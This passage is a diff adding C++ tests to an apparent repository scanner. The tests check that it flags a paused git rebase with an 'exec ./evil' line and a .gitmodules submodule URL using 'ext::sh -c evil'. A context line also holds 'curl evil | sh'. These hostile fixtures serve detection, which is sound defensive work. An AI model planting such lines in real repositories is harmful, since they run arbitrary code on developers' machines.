@@ -66,6 +66,24 @@ TEST_F(AfterRunWalk, TellsWhatIsNewAndTheLineThatMatters) {
                                   "reported build Makefile changed \\tcurl evil | sh"));
 }
 
+// A paused rebase, here and in a linked worktree: of its lines the one that runs something.
+TEST_F(AfterRunWalk, APausedRebaseWithAnExecLine) {
+  for (const char* place : {".git/rebase-merge", ".git/worktrees/w/rebase-merge"}) {
+    std::filesystem::create_directories(scratch.path(std::string("repository/") + place));
+    scratch.write(std::string("repository/") + place + "/git-rebase-todo", "pick 1234 a\nexec ./evil\npick 5678 b\n",
+                  0644);
+  }
+  EXPECT_THAT(seen(), ElementsAre("reported git .git/rebase-merge/git-rebase-todo new exec ./evil",
+                                  "reported git .git/worktrees/w/rebase-merge/git-rebase-todo new exec ./evil"));
+  EXPECT_EQ(report.effects[0].line_number, 2U);
+}
+
+TEST_F(AfterRunWalk, ASubmoduleThatComesFromElsewhere) {
+  scratch.write("repository/.gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = ext::sh -c evil\n", 0644);
+  EXPECT_THAT(seen(), ElementsAre("held git .gitmodules new \\turl = ext::sh -c evil"));
+  EXPECT_EQ(report.effects[0].line_number, 3U);
+}
+
 TEST_F(AfterRunWalk, ANewRepositoryIsToldOnce) {
   std::filesystem::create_directories(scratch.path("repository/deep/er/.git/hooks"));
   scratch.write("repository/deep/er/.git/config", "[core]\n", 0644);
